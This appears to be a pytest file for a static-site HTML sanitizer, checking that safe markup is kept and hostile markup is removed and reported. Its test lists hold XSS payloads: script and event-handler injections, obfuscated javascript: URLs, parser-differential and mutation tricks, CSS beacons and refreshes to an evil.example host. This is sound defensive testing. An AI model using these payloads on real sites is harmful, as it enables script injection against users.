"""The allow-list sanitizer: what it keeps, what it removes and names, and the real site left unchanged.

Expected outputs below are written by hand from the policy in `studylog.site.sanitize` and the HTML
standard's parsing rules; the browser-level proof is `test_xss_corpus.py`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import markdown
import pytest
from markdown.postprocessors import Postprocessor
from markdown.preprocessors import Preprocessor

from studylog.site.sanitize import is_remote, sanitize, sanitize_markdown, style_is_safe, url_scheme
from tests.conftest import ROOT, Build

KEEP = [
    '<p>Text with <a href="../x/#eq-a.b">a link</a> &amp; <code>x &lt; y</code>.</p>',
    '<a href="https://arxiv.org/abs/1706.03762">paper</a> <a href="mailto:a@b.example">mail</a>',
    '<img alt="fig" src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<figure class="sl-figure"><img alt="a" src="../fig.png"><figcaption>Fig. 1</figcaption></figure>',
    '<details class="note" open=""><summary>s</summary><p>x</p></details>',
    '<p><kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <abbr title="stochastic gradient descent">SGD'
    "</abbr>, <mark>hot</mark>, <del>old</del> <ins>new</ins>, <s>no</s>, <small>fine</small>, <q>said</q></p>",
    '<table><thead><tr><th style="text-align: center;">a</th><th align="right">b</th></tr></thead>'
    '<tbody><tr><td colspan="2" style="text-align: left;">c</td></tr></tbody></table>',
    '<h2 id="adam">Adam<a class="headerlink" href="#adam" title="Permanent link">¶</a></h2>',
    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
    '<div class="admonition warning"><p class="admonition-title">Warning</p><p>careful</p></div>',
    '<div class="language-python highlight"><pre><span></span><code><span class="n">x</span>'
    '<span class="o">=</span><span class="mi">1</span>\n</code></pre></div>',
    '<autoref identifier="studylog.optim.sgd.SGD" optional="" hover="">SGD</autoref>',
    '<ol start="3"><li>c</li></ol><dl><dt>t</dt><dd>d</dd></dl><ul><li>u</li></ul>',
    '<video controls="" src="clip.mp4"></video><span style="color: #c00; font-weight: bold">red</span>',
    "<p>Hangul 경사하강법 and \x02amp\x03para; (Python-Markdown's ampersand) stay text</p>",
]


@pytest.mark.parametrize("fragment", KEEP)
def test_ordinary_html_is_kept_verbatim(fragment: str) -> None:
    assert sanitize(fragment) == (fragment, [])


HOSTILE = [
    # (fragment, clean output, an item the report must name)
    ("<p>a<script>alert(1)</script>b</p>", "<p>ab</p>", "<script>"),
    ("<p>a<SCRIPT src=//evil.example/x.js></SCRIPT>b</p>", "<p>ab</p>", "<script>"),
    ('<img src="x" onerror="alert(1)">', '<img src="x">', "img onerror="),
    # the parser-differential tricks: html.parser saw a comment, a browser sees an <img>
    ("<!--><img src=x onerror=alert(1)>-->", '<img src="x">--&gt;', "img onerror="),
    ("<![CDATA[><img src=x onerror=alert(1)>]]>", '<img src="x">]]&gt;', "img onerror="),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<img src="x">"&gt;', "<noscript>"),
    ("<!-- a --!><img src=x onerror=alert(1)>", '<img src="x">', "<!-- comment -->"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>", "a href=javascript:"),
    ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "<a>x</a>", "a href=javascript:"),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', "<a>x</a>",
     "a href=javascript:"),
    ('<a href="JaVaScRiPt&colon;alert(1)">x</a>', "<a>x</a>", "a href=javascript:"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>", "a href=vbscript:"),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "<a>x</a>", "a href=data:"),
    ('<img src="data:text/html;base64,PHNjcmlwdD4=">', "<img>", "img src=data:"),
    ('<iframe src="https://evil.example"></iframe>ok', "ok", "<iframe>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">ok', "ok", "<meta>"),
    ('<base href="https://evil.example/">ok', "ok", "<base>"),
    ('<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>ok', "ok", "<svg>"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "", "<math>"),
    ('<div style="background:url(https://evil.example/t.png)">x</div>', "<div>x</div>", "div style="),
    ('<div style="background:u\\rl(https://evil.example/t.png)">x</div>', "<div>x</div>", "div style="),
    ('<div style="color:red;behavior:url(x.htc)">x</div>', "<div>x</div>", "div style="),
    ("<style>@import 'https://evil.example/x.css';</style>ok", "ok", "<style>"),
    ('<form action="https://evil.example"><button formaction="javascript:alert(2)">b</button></form>ok', "ok",
     "<form>"),
    ('<object data="https://evil.example/x.swf"></object><embed src="x.svg">ok', "ok", "<object>"),
    ('<details open ontoggle="alert(1)">x</details>', '<details open="">x</details>', "details ontoggle="),
    ('<a href="#" target="_blank" rel="opener" ping="https://evil.example">x</a>', '<a href="#">x</a>', "a ping="),
    ('<img src="x.png" srcset="https://evil.example/t.png 2x">', '<img src="x.png">', "img srcset="),
    ('<span class="sl-status sl-verified">✓ verified</span>', '<span class="">✓ verified</span>', "span class=sl-…"),
    ('<div id="__config">{"base": "https://evil.example"}</div>', '<div>{"base": "https://evil.example"}</div>',
     "div id=__…"),
    ("<autoref identifier='x\" autofocus onfocus=\"alert(1)' optional>y</autoref>",
     '<autoref identifier="xautofocusonfocusalert1" optional="">y</autoref>', "autoref identifier= (characters"),
    ('<p title="a\x02wzxhzdk:0\x03b">x</p>', '<p title="ab">x</p>', "p title= (formula or HTML inside an attribute)"),
    ('<a href="https://x.example" data-autorefs-identifier="y" tabindex="1">x</a>', '<a href="https://x.example">x</a>',
     "a data-autorefs-identifier="),
    ('<img src="#sl-remote-0"><img src="#sl-remote-7">', "<img><img>", "img src=#sl-remote-"),  # our marker, forged
    ("<autoref optional>x</autoref>", '<autoref identifier="" optional="">x</autoref>',
     "autoref without identifier="),  # mkdocs-autorefs would raise KeyError
    # a forged stash placeholder would make raw_html insert the raw, uncleaned block
    ("<p>&#2;wzxhzdk&#58;0&#3;</p>", "<p></p>", "Python-Markdown placeholder"),
    ("printed \x02wzxhzdk:0\x03 by an example", "printed  by an example", "Python-Markdown placeholder"),
]  # fmt: skip


@pytest.mark.parametrize(("fragment", "expected", "item"), HOSTILE)
def test_hostile_html_is_made_inert_and_named(fragment: str, expected: str, item: str) -> None:
    clean, removed = sanitize(fragment)
    assert clean == expected
    assert any(r.startswith(item) for r in removed), removed
    assert "HTML outside the allow-list" not in removed  # every removal is named


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [('<img src="http://198.51.100.7/t.png" alt="tracker">',
      '<a class="sl-external-media" href="http://198.51.100.7/t.png">tracker (external)</a>'),
     ('<img src="//198.51.100.7/t.png">', '<a class="sl-external-media" href="//198.51.100.7/t.png">img (external)</a>'),
     ('<img src="\\\\198.51.100.7\\t.png">',
      '<a class="sl-external-media" href="\\\\198.51.100.7\\t.png">img (external)</a>'),
     ('a<video controls><source src="https://198.51.100.7/v.mp4"><img src="https://198.51.100.7/p.png"></video>b',
      'a<a class="sl-external-media" href="https://198.51.100.7/v.mp4">video (external)</a>b'),
     ('<audio src="https://198.51.100.7/a.mp3" controls>x</audio>',
      '<a class="sl-external-media" href="https://198.51.100.7/a.mp3">audio (external)</a>'),
     ('<a href="/x/"><img src="https://198.51.100.7/t.png" alt="a&quot;b"></a>',
      '<a href="/x/"></a><a class="sl-external-media" href="https://198.51.100.7/t.png">a"b (external)</a>')],
)  # fmt: skip
def test_media_from_another_host_becomes_a_link(fragment: str, expected: str) -> None:
    clean, removed = sanitize(fragment)
    assert clean == expected
    assert any(r.endswith("from another host") for r in removed), removed


def test_kept_values_pass_by_value_where_they_stand_as_html() -> None:
    katex = '<sl-katex data-search-exclude><span class="katex"><math><mi>x</mi></math><svg><path d="M0"></path></svg></span></sl-katex>'
    fragment = f'<div class="doc">before {katex} after <span title="{katex}">t</span></div><svg onload=alert(1)></svg>'
    clean, removed = sanitize(fragment, keep={katex})
    assert clean.count(katex) == 1 and clean.startswith(f'<div class="doc">before {katex} after ')
    assert "onload" not in clean and "<svg onload" not in clean
    assert "<svg>" in removed


@pytest.mark.parametrize(
    ("url", "scheme", "remote"),
    [("javascript:alert(1)", "javascript", True), (" \x01JaVa\tScRipt:x", "javascript", True),
     ("java\nscript:x", "javascript", True), ("data:image/png;base64,AA", "data", False),
     ("https://a.example/x", "https", True), ("//a.example/x", "", True), ("\\\\a.example\\x", "", True),
     ("/studylog/x.png", "", False), ("../x.png", "", False), ("x.png#a:b", "", False), ("#sec", "", False),
     ("1http:x", "", False)],
)  # fmt: skip
def test_url_scheme_is_read_as_the_url_standard_reads_it(url: str, scheme: str, remote: bool) -> None:
    assert url_scheme(url) == scheme
    assert is_remote(url) is remote


@pytest.mark.parametrize(
    ("style", "safe"),
    [("text-align: center;", True), ("text-align:left", True), ("color: #fff; background-color: rgb(1, 2, 3)", True),
     ("width: 50%; max-width: 12.5em; vertical-align: -0.25em", True), ("", True),
     ("background: url(x.png)", False), ("color: red; background-image: url(//e.example/t.png)", False),
     ("color: re\\64", False), ("text-align: center /* */", False), ("width: expression(alert(1))", False),
     ("position: fixed; top: 0", False), ("color: red !important", False)],
)  # fmt: skip
def test_style_keeps_only_literal_declarations_of_the_subset(style: str, safe: bool) -> None:
    assert style_is_safe(style) is safe


# ------------------------------------------------------------------ in context: a Python-Markdown page
class _Sanitize(Postprocessor):
    """What the studylog extension registers, with a fixed set of trusted blocks."""

    def __init__(self, md: markdown.Markdown, trusted: set[str], notes: list[str]) -> None:
        super().__init__(md)
        self.trusted, self.notes = trusted, notes

    def run(self, text: str) -> str:
        clean, removed = sanitize_markdown(self.md, text, self.trusted)
        self.notes += removed
        return clean


class _Stash(Preprocessor):
    """Stash trusted HTML in place of ``TRUSTED``, as the extension's math preprocessor does."""

    def __init__(self, md: markdown.Markdown, html: str) -> None:
        super().__init__(md)
        self.html = html

    def run(self, lines: list[str]) -> list[str]:
        return [line.replace("TRUSTED", self.md.htmlStash.store(self.html)) for line in lines]


def _convert(source: str, trusted_html: str = "") -> tuple[str, list[str]]:
    md = markdown.Markdown(extensions=["md_in_html", "attr_list", "toc", "tables", "footnotes"])
    notes: list[str] = []
    md.preprocessors.register(_Stash(md, trusted_html), "trusted", 27)
    md.postprocessors.register(_Sanitize(md, {trusted_html}, notes), "sanitize", 35)
    return md.convert(source), notes


def test_inline_tags_stashed_one_by_one_are_cleaned_together() -> None:
    html, notes = _convert('a <span class="x" onclick="y()">b <em>c</em></span> d')
    assert html == '<p>a <span class="x">b <em>c</em></span> d</p>'
    assert notes == ["span onclick="]


def test_plain_comments_stay_and_tricky_ones_go() -> None:
    html, notes = _convert("x\n\n<!-- more -->\n\ny\n\n<!--><img src=x onerror=alert(1)>-->\n")
    assert "<!-- more -->" in html and "onerror" not in html and '<img src="x">' in html
    assert "img onerror=" in notes


def test_md_in_html_elements_and_attr_list_are_cleaned() -> None:
    source = ('<details markdown="1" open ontoggle="alert(1)">\n*x*\n</details>\n\n'
              'para\n{: onclick="alert(2)" .ok }\n\n[l](#a){: href="javascript:alert(3)" }\n')  # fmt: skip
    html, notes = _convert(source)
    assert "ontoggle" not in html and "onclick" not in html and "javascript" not in html
    assert '<p class="ok">para</p>' in html and "<em>x</em>" in html
    assert {"details ontoggle=", "p onclick=", "a href=javascript:"} <= set(notes)


def test_a_forged_placeholder_cannot_bring_back_an_uncleaned_block() -> None:
    html, notes = _convert("<img src=x onerror=alert(1)>\n\ntext <b>&#2;wzxhzdk&#58;0&#3;</b> and &#2;wzxhzdk&#58;0&#3;\n")
    assert "onerror" not in html and "alert" not in html
    assert "Python-Markdown placeholder" in notes


def test_trusted_blocks_are_restored_untouched() -> None:
    katex = '<span class="katex" style="height:1em"><svg><path d="M0"></path></svg></span>'
    html, notes = _convert("A formula TRUSTED and <b>bold</b>.", trusted_html=katex)
    assert html == f"<p>A formula {katex} and <b>bold</b>.</p>"
    assert notes == []


def test_html_kept_by_value_is_kept_when_added_later_in_the_build_longest_first() -> None:
    short = '<span class="sl-status">ok</span>'
    longer = short + '<span class="sl-number">(1)</span>'
    trusted: dict[str, None] = {short: None}
    assert sanitize(f"<p>{short}</p>", keep=trusted) == (f"<p>{short}</p>", [])
    trusted[longer] = None  # a later page stashes more: the index must see it, and prefer it to its prefix
    assert sanitize(f"<p>{longer}</p>", keep=trusted) == (f"<p>{longer}</p>", [])
    forged = '<span class="sl-number">(2)</span>'  # not kept: studylog's classes are removed from author HTML
    assert sanitize(f"<p>{short}{forged}</p>", keep=trusted)[0] == f"<p>{short}<span class=\"\">(2)</span></p>"


# ------------------------------------------------------------------ the real site: unchanged but for what is named
_UNSANITIZED_BUILD = """
import sys
import studylog.site.extension as extension
import studylog.site.sanitize as sanitize
sanitize.sanitize = extension.sanitize = lambda fragment, keep=(): (fragment, [])
from mkdocs.__main__ import cli
sys.argv = ["mkdocs", *sys.argv[1:]]
cli()
"""

_DOM_DIFF = """([a, b]) => {
  const parse = (s) => new DOMParser().parseFromString(s, "text/html");
  const diffs = [];
  const walk = (x, y, path) => {
    if (x.nodeType !== y.nodeType || x.nodeName !== y.nodeName) { diffs.push(["node", path, x.nodeName, y.nodeName]); return; }
    if (x.nodeType !== 1) { if (x.nodeValue !== y.nodeValue) diffs.push(["text", path, x.nodeValue, y.nodeValue]); return; }
    for (const n of new Set([...x.getAttributeNames(), ...y.getAttributeNames()]))
      if (x.getAttribute(n) !== y.getAttribute(n)) diffs.push(["attr", path, x.localName, n, x.getAttribute(n), y.getAttribute(n)]);
    const xs = x.childNodes, ys = y.childNodes;
    if (xs.length !== ys.length) { diffs.push(["children", path, xs.length, ys.length]); return; }
    for (let i = 0; i < xs.length; i++) walk(xs[i], ys[i], `${path}/${xs[i].nodeName.toLowerCase()}[${i}]`);
  };
  walk(parse(a).documentElement, parse(b).documentElement, "");
  return diffs;
}"""


def _notes(output: str) -> dict[str, set[str]]:
    """``{output page or "blog/": removed items}`` from the build's notes.

    A log's excerpt is rendered again on the blog's index, archive and category pages, so what a log
    lost may be missing from any page under ``blog/``.
    """
    notes: dict[str, set[str]] = {}
    for line in output.splitlines():
        if ": removed unsafe HTML: " in line:
            where, items = line.split("-", 1)[1].strip().split(": removed unsafe HTML: ")
            src = Path(where).relative_to("docs") if where.startswith("docs/") else Path(where)
            if src.parts[0] in ("blog", "<markdown>"):
                page = "blog/"
            else:
                page = ((src.parent if src.stem == "index" else src.with_suffix("")) / "index.html").as_posix()
            notes.setdefault(page, set()).update(items.split(", "))
    return notes


def test_the_real_site_is_unchanged_but_for_what_the_sanitizer_names(built_site: Build, tmp_path: Path, browser) -> None:
    """Every page of the real site, built with and without the sanitizer, parsed by Chromium: same DOM,
    except attributes that the build's note for that page says were removed."""
    assert built_site.returncode == 0, built_site.output
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    raw_site = tmp_path / "unsanitized"
    proc = subprocess.run([sys.executable, "-c", _UNSANITIZED_BUILD, "build", "--strict", "-d", str(raw_site)], cwd=ROOT,
                          env=env, capture_output=True, text=True, timeout=900, check=False)  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "removed unsafe HTML" not in proc.stderr  # the patch took: nothing was sanitized
    pages = sorted(p.relative_to(built_site.site).as_posix() for p in built_site.site.rglob("*.html"))
    assert pages == sorted(p.relative_to(raw_site).as_posix() for p in raw_site.rglob("*.html"))
    assert "blog/2021/08/10/day-7-optimization/index.html" in pages
    notes = _notes(built_site.output)
    tab = browser.new_page()
    unexplained: dict[str, list[object]] = {}
    for rel in pages:
        diffs = tab.evaluate(_DOM_DIFF, [(raw_site / rel).read_text(encoding="utf-8"),
                                         (built_site.site / rel).read_text(encoding="utf-8")])  # fmt: skip
        named = notes.get(rel, set()) | (notes.get("blog/", set()) if rel.startswith("blog/") else set())
        rest = [d for d in diffs if not (d[0] == "attr" and d[5] is None and f"{d[2]} {d[3]}=" in named)]
        if rest:
            unexplained[rel] = rest[:5]
    tab.close()
    assert not unexplained, json.dumps(unexplained, indent=1, ensure_ascii=False)[:4000]
    assert not [line for line in built_site.output.splitlines() if "day07" in line and "removed" in line]
